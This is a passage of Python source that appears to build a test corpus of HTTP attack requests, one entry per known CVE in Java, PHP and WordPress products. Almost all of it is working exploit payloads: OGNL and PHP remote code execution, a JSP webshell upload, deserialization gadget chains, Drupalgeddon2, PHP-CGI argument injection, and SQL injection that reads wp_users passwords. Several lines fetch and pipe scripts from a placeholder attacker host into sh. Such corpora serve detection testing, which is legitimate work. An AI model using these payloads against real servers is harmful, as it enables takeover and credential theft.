         {"fallback": "var2"}, "contents": [{"filters": [{"condition": {"parameterValues": {
             "propertyName": "(#runtimeclass = #this.getClass().forName(\"java.lang.Runtime\")).(#getruntimemethod"
                             " = #runtimeclass.getDeclaredMethods().{^ #this.name.equals(\"getRuntime\")}[0])."
                             "(#rtobj = #getruntimemethod.invoke(null,null)).(#execmethod = #runtimeclass"
                             ".getDeclaredMethods().{? #this.name.equals(\"exec\")}.{? #this.getParameters()[0]"
                             ".getType().getName().equals(\"java.lang.String\")}.{? #this.getParameters().length < 2}"
                             "[0]).(#execmethod.invoke(#rtobj,\"id\"))",
             "comparisonOperator": "equals", "propertyValue": "male"}, "type": "profilePropertyCondition"}}],
             "id": "var1"}]}], "sessionId": "x"})),
  ("json", "script::Runtime.getRuntime().exec(...)",
   me("condition", {"type": "profilePropertyCondition", "parameterValues": {
       "": "script::java.lang.Runtime.getRuntime().exec(\"id\");"}})))

X("java", "shiro-rememberme-cve-2016-4437",
  ("cookie", "rememberMe=<AES-CBC CommonsBeanutils blob>", ck("rememberMe=" + blob("shiro-cb1", 640))),
  ("cookie", "rememberMe=<AES-GCM blob>", ck("rememberMe=" + blob("shiro-gcm", 512), "/admin/")),
  ("cookie", "rememberMe=1 (key probe)", ck("rememberMe=1", "/api/users")))

X("java", "jsf-viewstate-deserialization",
  ("form", "javax.faces.ViewState=rO0AB...", form("/faces/index.xhtml", [
      ("j_id1", "j_id1"), ("javax.faces.ViewState", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZh"
                                                     "Y3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa"
                                                     "/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7")])),
  ("form", "javax.faces.ViewState=H4sIAAAA... (gzip)", adm("javax.faces.ViewState", "H4sIAAAAAAAAAK1Ve2wURRif3"
                                                                                     + blob("viewstate", 300))),
  ("form", "javax.faces.ViewState=rO0AB...", form("/api/users", [("javax.faces.ViewState",
                                                                  "rO0ABXNyAA5qYXZhLnV0aWwuTGlzdA" + blob("vs2",
                                                                                                          200))])))

JSP_SHELL = ('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); '
             'BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; '
             'while ((l = r.readLine()) != null) { out.println(l); } %>')
X("java", "tomcat-put-jsp-cve-2017-12617",
  ("raw-body", JSP_SHELL, post("/shell.jsp/", JSP_SHELL, "text/plain", method="PUT")),
  ("raw-body", JSP_SHELL, post("/x.jsp%20", JSP_SHELL, "text/plain", method="PUT")),
  ("raw-body", JSP_SHELL, post("/x.jsp::$DATA", JSP_SHELL, "application/octet-stream", method="PUT")),
  ("raw-body", JSP_SHELL, post("/api/users/cmd.jsp/", JSP_SHELL, "text/plain", method="PUT")))

X("java", "tomcat-partial-put-cve-2025-24813",
  ("raw-body", "aced0005 session object via Content-Range",
   post("/uploads/.session", JSER, "application/octet-stream", {"Content-Range": "bytes 0-5/100"}, method="PUT")),
  ("raw-body", "aced0005 session object", post("/api/users/.session", JSER, "application/octet-stream",
                                                {"Content-Range": "bytes 0-5/100"}, method="PUT")),
  ("cookie", "JSESSIONID=.session", ck("JSESSIONID=.session", "/uploads/index.jsp")))

# ===== PHP =================================================================================================

EVAL_STDIN = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
X("php", "phpunit-eval-stdin",
  ("raw-body", '<?php echo md5("phpunit"); ?>', post(EVAL_STDIN, '<?php echo md5("phpunit"); ?>',
                                                    "application/x-www-form-urlencoded")),
  ("raw-body", "<?php system('id'); ?>", post(EVAL_STDIN, "<?php system('id'); ?>", None, method="GET")),
  ("raw-body", '<?php echo(md5("Hello PHPUnit"));', post("/api" + EVAL_STDIN, '<?php echo(md5("Hello PHPUnit"));',
                                                         "text/plain")),
  ("raw-body", f"<?=shell_exec('wget http://{ATK}/x.sh -O- | sh');",
   post("/laravel" + EVAL_STDIN, f"<?=shell_exec('wget http://{ATK}/x.sh -O- | sh');", "text/plain")),
  ("raw-body", "<?php file_put_contents('x.php', base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWydjJ10pOyA/Pg=='));",
   post("/admin/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php",
        "<?php file_put_contents('x.php', base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWydjJ10pOyA/Pg=='));",
        "application/x-www-form-urlencoded")),
  ("raw-body", "<?php\necho php_uname();", post("/vendor/phpunit/src/Util/PHP/eval-stdin.php",
                                                "<?php\necho php_uname();", "text/plain")))

X("php", "thinkphp-invokefunction",
  ("query", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
   get("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"
       "&vars[1][]=HelloThinkPHP21")),
  ("query", "s=index/\\think\\app/invokefunction ... vars[0]=system&vars[1][]=id",
   get("/index.php?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id")),
  ("query", "s=index/think\\Container/invokefunction ... file_put_contents <?php eval($_POST[cmd]);?>",
   get("/index.php?s=index/think\\Container/invokefunction&function=call_user_func_array&vars[0]=file_put_contents"
       "&vars[1][]=shell.php&vars[1][]=%3C%3Fphp%20eval(%24_POST%5Bcmd%5D)%3B%3F%3E")),
  ("query", "s=/index/\\think\\request/input&filter=phpinfo&data=1",
   get("/index.php?s=/index/\\think\\request/input&filter=phpinfo&data=1")),
  ("query", "s=index/%5Cthink%5Capp/invokefunction ... shell_exec",
   get("/public/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"
       "&vars%5B0%5D=shell_exec&vars%5B1%5D%5B%5D=id")),
  ("query", "s=index/\\think\\app/invokefunction ... phpinfo",
   get("/api/users?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=-1")))

X("php", "thinkphp-construct-filter",
  ("form", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id",
   form_raw("/index.php?s=captcha", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")),
  ("form", "_method=__construct&filter[]=phpinfo&method=get&server[REQUEST_METHOD]=-1",
   form_raw("/index.php?s=captcha", "_method=__construct&filter[]=phpinfo&method=get&server[REQUEST_METHOD]=-1")),
  ("form", "_method=__construct&filter[]=system&method=get&get[]=id",
   form_raw("/admin/users/search?s=captcha", f"csrf_token={CSRF}&_method=__construct&filter[]=system&method=get"
            "&get[]=id")),
  ("form", "_method=__construct&filter%5B%5D=assert&method=get&server%5BREQUEST_METHOD%5D=...",
   form_raw("/index.php?s=captcha", "_method=__construct&filter%5B%5D=assert&method=get&server%5BREQUEST_METHOD%5D="
            + enc("file_put_contents('x.php','<?php eval($_POST[1]);?>')"))))

X("php", "thinkphp-2x-preg-e",
  ("path", "${@phpinfo()}", get("/index.php?s=/index/index/xxx/${@phpinfo()}")),
  ("path", "${@print(eval($_POST[1]))}", get("/index.php?s=a/b/c/${@print(eval($_POST[1]))}")),
  ("path", "${@system(id)}", get("/api/users/index/name/${@system(id)}")))

X("php", "thinkphp-lang-pearcmd",
  ("query", "lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>+/tmp/hello.php",
   get("/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>"
       "+/tmp/hello.php")),
  ("header:think-lang", "../../../../../../../../usr/local/lib/php/pearcmd",
   get("/index.php?+config-create+/<?=eval($_REQUEST[1]);?>+/tmp/a.php",
       {"think-lang": "../../../../../../../../usr/local/lib/php/pearcmd"})),
  ("cookie", "think_lang=../../../../../usr/local/lib/php/pearcmd",
   ck("think_lang=..%2F..%2F..%2F..%2F..%2Fusr%2Flocal%2Flib%2Fphp%2Fpearcmd", "/index.php?+config-create+/<?=`id`?>"
      "+/tmp/b.php")),
  ("query", "lang=../../../../../usr/local/lib/php/pearcmd",
   get("/api/users?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>+/tmp/c.php")))

X("php", "pearcmd-lfi",
  ("query", "+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=eval($_GET['c'])?>+/tmp/x.php",
   get("/index.php?+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=eval($_GET['c'])?>+/tmp/x.php")),
  ("query", f"page=../../../../usr/local/lib/php/pearcmd.php&+install+-R+/tmp+http://{ATK}/x.php",
   get(f"/api/users?page=../../../../usr/local/lib/php/pearcmd.php&+install+-R+/tmp+http://{ATK}/x.php")),
  ("query", "file=/usr/share/php/pearcmd.php&+download+http://attacker/shell.php",
   get(f"/admin/users/search?file=/usr/share/php/pearcmd.php&+download+http://{ATK}/shell.php")),
  ("query", "+config-create+/<?=system($_GET[0]);?>+/var/www/html/s.php",
   get("/index.php?page=pearcmd&+config-create+/%3C?=system($_GET%5B0%5D);?%3E+/var/www/html/s.php")))

DG2_Q = "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax"
X("php", "drupalgeddon2",
  ("param-name", "mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
   form(DG2_Q, [("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#post_render][]", "exec"),
                ("mail[#type]", "markup"), ("mail[#markup]", "id")])),
  ("param-name", "timezone[a][#lazy_builder][]=passthru&timezone[a][#lazy_builder][][]=id",
   form("/user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
        [("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("timezone[a][#lazy_builder][]", "passthru"),
         ("timezone[a][#lazy_builder][][]", "id")])),
  ("param-name", "name[#post_render][]=passthru&name[#type]=markup&name[#markup]=id",
   form("/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id",
        [("form_id", "user_pass"), ("_triggering_element_name", "name"), ("_triggering_element_value", ""),
         ("opz", "E-mail new Password")])),
  ("param-name", "mail[#post_render][]=system&mail[#markup]=id",
   adm("mail[#post_render][]", "system", [("mail[#type]", "markup"), ("mail[#markup]", "id")])),
  ("param-name", "name[#post_render][]=printf&name[#markup]=DG2probe",
   get("/api/users?name%5B%23post_render%5D%5B%5D=printf&name%5B%23type%5D=markup&name%5B%23markup%5D=DG2probe")),
  ("param-name", "mail[#post_render][]=printf&mail[#markup]=...",
   form(DG2_Q, [("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#post_render][]", "printf"),
                ("mail[#type]", "markup"), ("mail[#markup]", "drupalgeddon2-check")])))

RESTWS = ('O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\\u0000GuzzleHttp\\Psr7\\FnStream\\u0000methods";'
          'a:1:{s:5:"close";'
          'a:2:{i:0;O:23:"GuzzleHttp\\HandlerStack":3:{s:32:"\\u0000GuzzleHttp\\HandlerStack\\u0000handler";s:2:"id";'
          's:30:"\\u0000GuzzleHttp\\HandlerStack\\u0000stack";a:1:{i:0;a:1:{i:0;s:6:"system";}}s:31:"\\u0000'
          'GuzzleHttp\\HandlerStack\\u0000cached";b:0;}i:1;s:7:"resolve";}}s:9:"_fn_close";a:2:{i:0;r:4;i:1;'
          's:7:"resolve";}}')
X("php", "drupal-rest-cve-2019-6340",
  ("json", RESTWS, jpost("/node/?_format=hal_json", {"link": [{"value": "link", "options": RESTWS}], "_links": {
      "type": {"href": "http://localhost/rest/type/shortcut/default"}}})),
  ("json", RESTWS, jpost("/api/users/42", {"link": [{"value": "link", "options": RESTWS}]}, method="PATCH")),
  ("json", RESTWS, jpost("/api/users", {"options": RESTWS})))

X("php", "vbulletin-widget-php",
  ("form", "widgetConfig[code]=echo shell_exec('id'); exit;",
   form("/index.php?routestring=ajax/render/widget_php", [("widgetConfig[code]", "echo shell_exec('id'); exit;")])),
  ("form", "routestring=ajax/render/widget_php&widgetConfig[code]=phpinfo();exit;",
   form("/", [("routestring", "ajax/render/widget_php"), ("widgetConfig[code]", "phpinfo();exit;")])),
  ("form", "widgetConfig[code]=system('id');", adm("widgetConfig[code]", "system('id');",
                                                   [("routestring", "ajax/render/widget_php")])),
  ("form", "widgetConfig[code]=eval(base64_decode(...))",
   form("/ajax/render/widget_php", [("widgetConfig[code]", "eval(base64_decode('ZWNobyBzaGVsbF9leGVjKCdpZCcpOw=='));"
                                                           "exit;")])))

X("php", "vbulletin-tabbedcontainer-cve-2020-17496",
  ("form", "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();",
   form("/ajax/render/widget_tabbedcontainer_tab_panel", [("subWidgets[0][template]", "widget_php"),
                                                          ("subWidgets[0][config][code]", "phpinfo();")])),
  ("form", "subWidgets[0][config][code]=echo shell_exec('id'); exit;",
   form("/index.php?routestring=ajax/render/widget_tabbedcontainer_tab_panel",
        [("subWidgets[0][template]", "widget_php"), ("subWidgets[0][config][code]", "echo shell_exec('id'); exit;")])),
  ("form", "subWidgets[0][config][code]=system('id');",
   adm("subWidgets[0][config][code]", "system('id');", [("subWidgets[0][template]", "widget_php")])))

IGN_FILTER = ("php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|"
              "convert.iconv.utf-16be.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log")
IGN_SOL = "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution"
X("php", "laravel-ignition-cve-2021-3129",
  ("json", IGN_FILTER, jpost("/_ignition/execute-solution", {"solution": IGN_SOL, "parameters": {
      "variableName": "username", "viewFile": IGN_FILTER}})),
  ("json", "phar://../storage/logs/laravel.log/test.txt", jpost("/_ignition/execute-solution", {
      "solution": IGN_SOL, "parameters": {"variableName": "username",
                                          "viewFile": "phar://../storage/logs/laravel.log/test.txt"}})),
  ("json", "php://filter/read=consumed/resource=../storage/logs/laravel.log", jpost("/_ignition/execute-solution", {
      "solution": IGN_SOL, "parameters": {"variableName": "x",
                                          "viewFile": "php://filter/read=consumed/resource=../storage/logs/laravel.log"}})),
  ("json", "AA=50=00=3F=00p=00h=00p... (quoted-printable PHAR)", jpost("/_ignition/execute-solution", {
      "solution": IGN_SOL, "parameters": {"variableName": "x", "viewFile": "AA=50=00=3F=00p=00h=00p=00=20=00"
                                                                           "_=00_=00H=00A=00L=00T=00"}})),
  ("json", IGN_FILTER, jpost("/api/users", {"solution": IGN_SOL, "parameters": {"variableName": "x",
                                                                                 "viewFile": IGN_FILTER}})))

X("php", "phpmyadmin-setup-cve-2009-1151",
  ("form", 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}',
   form("/phpmyadmin/scripts/setup.php", [("action", "save"), ("token", "5c8b4a"), (
       "configuration", 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}')])),
  ("form", "Servers*0*host=x'];system('id');//",
   form("/pma/scripts/setup.php", [("token", "a1b2c3"), ("action", "lay_navigation"), ("eoltype", "unix"),
                                   ("configuration", "a:1:{s:7:\"Servers\";a:1:{i:0;a:1:{s:23:\"host']="
                                                     "'';phpinfo();//\";s:9:\"localhost\";}}}")])),
  ("form", 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}',
   adm("configuration", 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}', [("action", "save")])))

X("php", "phpmyadmin-preg-e-cve-2016-5734",
  ("form", "find=0/e\\0&replaceWith=system('id')",
   form_raw("/phpmyadmin/tbl_find_replace.php", "db=test&table=t&token=abc&columnIndex=0&useRegex=on"
            "&find=0%2Fe%00&replaceWith=system%28%27id%27%29&ajax_request=true")),
  ("form", "find=0/e\\0&replaceWith=phpinfo()",
   form_raw("/pma/tbl_find_replace.php", "db=d&table=a&columnIndex=0&useRegex=on&find=0/e%00&replaceWith="
            "phpinfo()&submit=Go")),
  ("form", "find=0/e\\0&replaceWith=system('id')",
   form_raw("/admin/users/search", f"csrf_token={CSRF}&useRegex=on&find=0/e%00&replaceWith=system('id')")))

X("php", "php-cgi-cve-2012-1823",
  ("query", "-d allow_url_include=on -d auto_prepend_file=php://input",
   post("/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", "<?php system('id'); die(); ?>",
        "application/x-www-form-urlencoded")),
  ("query", "-d allow_url_include=1 -d safe_mode=0 -d auto_prepend_file=php://input",
   post("/cgi-bin/php?-d+allow_url_include%3d1+-d+safe_mode%3d0+-d+suhosin.simulation%3d1+-d+disable_functions%3d%22%22"
        "+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp%3a%2f%2finput+-n", "<?php echo md5('cgi'); ?>",
        "application/x-www-form-urlencoded")),
  ("query", "-s", get("/index.php?-s")),
  ("query", "-d auto_prepend_file=php://input",
   post("/api/users?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", "<?php echo shell_exec('id'); ?>",
        "text/plain")))

X("php", "php-cgi-cve-2024-4577",
  ("query", "%ADd allow_url_include=1 %ADd auto_prepend_file=php://input",
   post("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "<?php echo md5('4577'); ?>", "application/x-www-form-urlencoded")),
  ("query", "%ADd cgi.force_redirect=0 %ADd cgi.redirect_status_env %ADd allow_url_include=1",
   post("/cgi-bin/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1"
        "+%ADd+auto_prepend_file%3dphp://input", "<?php system('whoami'); ?>", "application/x-www-form-urlencoded")),
  ("query", "%ADd allow_url_include=1 %ADd auto_prepend_file=php://input",
   post("/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php phpinfo(); ?>",
        "application/x-www-form-urlencoded")),
  ("query", "%ADd allow_url_include=1 %ADd auto_prepend_file=php://input",
   post("/api/users?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php system('id'); ?>",
        "application/x-www-form-urlencoded")))

X("php", "php-8-1-dev-backdoor",
  ("header:User-Agentt", "zerodiumsystem('id');", hd("User-Agentt", "zerodiumsystem('id');")),
  ("header:User-Agentt", "zerodiumvar_dump(2*3);", hd("User-Agentt", "zerodiumvar_dump(2*3);", "/admin/")),
  ("header:User-Agentt", f"zerodiumsystem('curl {ATK}/z|sh');",
   hd("User-Agentt", f"zerodiumsystem('curl {ATK}/z|sh');", "/index.php")),
  ("header:User-Agentt", "zerodiumprint(md5('zerodium'));",
   hd("User-Agentt", "zerodiumprint(md5('zerodium'));", "/me/settings")))

CRAFT = json.dumps({"name": "test[userCondition]", "as xyz": {"class": "\\GuzzleHttp\\Psr7\\FnStream",
                                                             "__construct()": [{"close": None}],
                                                             "_fn_close": "phpinfo"}})
X("php", "craftcms-cve-2023-41892",
  ("form", CRAFT, form("/index.php", [("action", "conditions/render"), ("test[userCondition]",
                                                                        "craft\\elements\\conditions\\users\\UserCondition"),
                                      ("config", CRAFT)])),
  ("form", CRAFT, adm("config", CRAFT, [("action", "conditions/render")])),
  ("form", "Imagick msl:/proc/self/fd/...",
   form("/", [("action", "conditions/render"), ("configObject[class]", "craft\\elements\\conditions\\ElementCondition"),
              ("config", json.dumps({"name": "configObject", "as ": {"class": "Imagick", "__construct()": {
                  "files": "msl:/proc/self/fd/9"}}}))])))

WEBSHELL = "<?php system($_GET['cmd']); ?>"
X("php", "wp-file-manager-cve-2020-25213",
  ("multipart-filename", "x.php <?php system($_GET['cmd']); ?>",
   mpart("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
         [("cmd", None, None, "upload"), ("target", None, None, "l1_"), ("upload[]", "x.php", "image/png", WEBSHELL)])),
  ("multipart-filename", "shell.php", mpart("/api/users", [("cmd", None, None, "upload"), ("target", None, None, "l1_"),
                                                           ("upload[]", "shell.php", "application/x-php", WEBSHELL)])),
  ("multipart-filename", "a.phtml", mpart("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
                                          [("cmd", None, None, "upload"), ("target", None, None, "l1_Lw"),
                                           ("upload[]", "a.phtml", "text/plain", "<?=`$_REQUEST[0]`?>")])),
  ("multipart-filename", "avatar.php.jpg", mpart("/me/settings", [("avatar", "avatar.php.jpg", "image/jpeg",
                                                                   "\xff\xd8\xff\xe0" + WEBSHELL)])))

X("php", "wp-bricks-cve-2024-25600",
  ("json", "throw new Exception(`id`);", jpost("/wp-json/bricks/v1/render_element", {
      "postId": "1", "nonce": "a5a0e8b8a1", "element": {"name": "container", "settings": {
          "hasLoop": "true", "query": {"useQueryEditor": True, "queryEditor": "throw new Exception(`id`);",
                                        "objectType": "post"}}}})),
  ("json", "system('id');", jpost("/?rest_route=/bricks/v1/render_element", {
      "postId": "1", "nonce": "a5a0e8b8a1", "element": {"name": "code", "settings": {
          "executeCode": "true", "code": "<?php system('id'); ?>"}}})),
  ("json", "throw new Exception(`id`);", jpost("/api/users", {"element": {"name": "container", "settings": {
      "query": {"useQueryEditor": True, "queryEditor": "throw new Exception(`id`);"}}}})))

GIVE = ('O:19:"Stripe\\StripeObject":1:{s:10:"\\0*\\0_values";a:1:{s:3:"foo";O:62:"Give\\PaymentGateways\\'
        'DataTransferObjects\\GiveInsertPaymentData":1:{s:8:"userInfo";a:1:{s:7:"address";O:4:"Give":1:{s:12:'
        '"\\0*\\0container";O:33:"Give\\Vendors\\Faker\\ValidGenerator":3:{s:12:"\\0*\\0validator";s:10:'
        '"shell_exec";s:12:"\\0*\\0generator";O:34:"Give\\Onboarding\\SettingsRepository":1:{s:11:"\\0*\\0settings";'
        'a:1:{s:8:"address1";s:2:"id";}}s:13:"\\0*\\0maxRetries";i:10;}}}}}}}')
X("php", "wp-givewp-cve-2024-5932",
  ("form", GIVE, form("/wp-admin/admin-ajax.php", [("give-form-id", "7"), ("give-form-hash", "a1b2c3d4e5"),
                                                   ("give-price-id", "0"), ("give-amount", "$10.00"),
                                                   ("give_first", "J"), ("give_last", "D"),
                                                   ("give_email", "j@example.org"), ("give_title", GIVE),
                                                   ("give-gateway", "offline"), ("action", "give_process_donation")])),
  ("form", GIVE, adm("give_title", GIVE)),
  ("json", GIVE, js("title", GIVE)))

MAILER = '"attacker\\" -oQ/tmp/ -X/var/www/html/cache/phpcode.php  some"@email.com'
X("php", "phpmailer-cve-2016-10033",
  ("form", MAILER, form("/contact.php", [("action", "submit"), ("name", "<?php system($_GET['c']); ?>"),
                                         ("email", MAILER), ("msg", "hello")])),
  ("form", MAILER, adm("email", MAILER)),
  ("json", MAILER, js("email", MAILER)),
  ("form", "\"a\\\" -OQueueDirectory=/tmp -X/var/www/html/x.php @example.com",
   oauth([("grant_type", "client_credentials"), ("email",
                                                 "\"a\\\" -OQueueDirectory=/tmp -X/var/www/html/x.php @example.com")])))

JOOMLA = ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnect'
          'Handlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:'
          '"feed_url";s:{n}:"{code}";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache_class";'
          'O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}\U0001d306')


def joomla(code: str) -> str:
    return JOOMLA.replace("{n}", str(len(code))).replace("{code}", code)


X("php", "joomla-session-cve-2015-8562",
  ("header:User-Agent", joomla("phpinfo();JFactory::getConfig();exit;"),
   hd("User-Agent", joomla("phpinfo();JFactory::getConfig();exit;"))),
  ("header:X-Forwarded-For", joomla("eval(base64_decode($_POST[111]));JFactory::getConfig();exit;"),
   hd("X-Forwarded-For", joomla("eval(base64_decode($_POST[111]));JFactory::getConfig();exit;"), "/index.php")),
  ("header:User-Agent", joomla("system('id');JFactory::getConfig();exit;"),
   hd("User-Agent", joomla("system('id');JFactory::getConfig();exit;"), "/admin/")),
  ("header:X-Forwarded-For", joomla("die(md5(DIRECTORY_SEPARATOR));JFactory::getConfig();exit;"),
   hd("X-Forwarded-For", joomla("die(md5(DIRECTORY_SEPARATOR));JFactory::getConfig();exit;"), "/api/users/42")))

X("php", "magento-template-directive",
  ("json", "{{var this.getTemplateFilter().filter(...)}}", jpost("/rest/V1/guest-carts/abc/payment-information", {
      "email": "{{var this.getTemplateFilter().addAfterFilter(system).filter(id)}}@example.com",
      "paymentMethod": {"method": "checkmo"}})),
  ("json", "{{var this.getTemplateFilter().addAfterFilter(system).filter(id)}}",
   js("name", "{{var this.getTemplateFilter().addAfterFilter(system).filter(id)}}")),
  ("form", "{{block type='core/template' template='../../../../../etc/passwd'}}",
   adm("q", "{{block type='core/template' template='../../../../../etc/passwd'}}")),
  ("json", "{{var this.getTemplateFilter().filter(dummy)}}{{var this.getTemplateFilter().add_after_filter(...)}}",
   me("display_name", "{{var this.getTemplateFilter().filter(dummy)}}{{var this.getTemplateFilter()"
                      ".addAfterFilter(passthru)}}{{var this.getTemplateFilter().filter(whoami)}}")))

# ===== SQL injection in well-known products ================================================================

X("sqli", "wp-paid-memberships-pro-cve-2023-23488",
  ("query", "a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
   get("/?rest_route=/pmpro/v1/order&code=a%27%20OR%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-")),
  ("query", "a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
   get("/wp-json/pmpro/v1/order?code=a%27+OR+%28SELECT+1+FROM+%28SELECT%28SLEEP%285%29%29%29a%29--+-")),
  ("query", "x' UNION SELECT user_login,user_pass,3 FROM wp_users-- -",
   q("code", "x' UNION SELECT user_login,user_pass,3 FROM wp_users-- -")),
  ("query", "a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
   get("/api/users?rest_route=/pmpro/v1/order&code=a%27%20OR%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-")))

X("sqli", "wp-fastest-cache-cve-2023-6063",
  ("cookie", "wordpress_logged_in=\" AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND \"a\"=\"a",
   ck("wordpress_logged_in_1=" + enc("\" AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND \"a\"=\"a"), "/")),
  ("cookie", "wordpress_logged_in=\" AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND \"a\"=\"a",
   ck("wordpress_logged_in_1=\" AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND \"a\"=\"a")),
  ("cookie", "wordpress_logged_in=\" UNION SELECT user_pass FROM wp_users WHERE ID=1-- -",
   ck("wordpress_logged_in_x=" + enc("\" UNION SELECT user_pass FROM wp_users WHERE ID=1-- -"), "/admin/")))

X("sqli", "wp-statistics-cve-2021-24340",
  ("query", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
   get("/wp-admin/admin.php?ID=1%20AND%20(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))a)&page=wps_pages_page&type=1")),
  ("query", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
   q("ID", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", more=[("page", "wps_pages_page"), ("type", "1")])),
  ("query", "1 AND extractvalue(1,concat(0x7e,(SELECT user_pass FROM wp_users LIMIT 1)))",
   get("/wp-admin/admin.php?page=wps_pages_page&type=1&ID=" + enc(
       "1 AND extractvalue(1,concat(0x7e,(SELECT user_pass FROM wp_users LIMIT 1)))"))))

X("sqli", "wp-google-maps-cve-2019-10692",
  ("query", "fields=* from wp_users -- -", get("/?rest_route=/wpgmza/v1/markers&filter=%7b%7d&fields=%2a%20from"
                                               "%20wp_users%20--%20-")),
  ("query", "fields=user_login,user_pass from wp_users -- -",
   get("/wp-json/wpgmza/v1/markers?filter=%7B%7D&fields=user_login,user_pass%20from%20wp_users%20--%20-")),
  ("query", "fields=* from wp_users -- -", q("fields", "* from wp_users -- -", more=[("filter", "{}")])))

TAXQ = ('{"tax_query":{"0":{"field":"term_taxonomy_id","terms":["111) and extractvalue(rand(),'
        'concat(0x5e,user(),0x5e))#"]}}}')
X("sqli", "wp-query-tax-query-cve-2022-21661",
  ("form", TAXQ, form("/wp-admin/admin-ajax.php", [("action", "ecsload"), ("query", TAXQ), ("ecs_ajax_settings",
                                                                                            "{}")])),
  ("form", TAXQ, adm("query", TAXQ)),
  ("json", TAXQ, js("query", json.loads(TAXQ))))

X("sqli", "wp-ultimate-member-cve-2024-1071",
  ("form", "user_login,SLEEP(5)", form("/wp-admin/admin-ajax.php", [("action", "um_get_members"),
                                                                    ("directory_id", "b9238"), ("page", "1"),
                                                                    ("sorting", "user_login,SLEEP(5)"),
                                                                    ("nonce", "c2e3f1a0b9")])),
  ("form", "user_login,(SELECT 1 FROM (SELECT(SLEEP(5)))a)", adm("sorting",
                                                                 "user_login,(SELECT 1 FROM (SELECT(SLEEP(5)))a)")),
  ("query", "user_login,SLEEP(5)", q("sorting", "user_login,SLEEP(5)")))

X("sqli", "wp-learnpress-cve-2022-45808",
  ("query", "ID AND (SELECT 42 FROM (SELECT(SLEEP(5)))b)",
   get("/wp-json/lp/v1/courses/archive-course?order_by=ID+AND+(SELECT+42+FROM+(SELECT(SLEEP(5)))b)&order=DESC")),
  ("query", "ID AND (SELECT 42 FROM (SELECT(SLEEP(5)))b)",
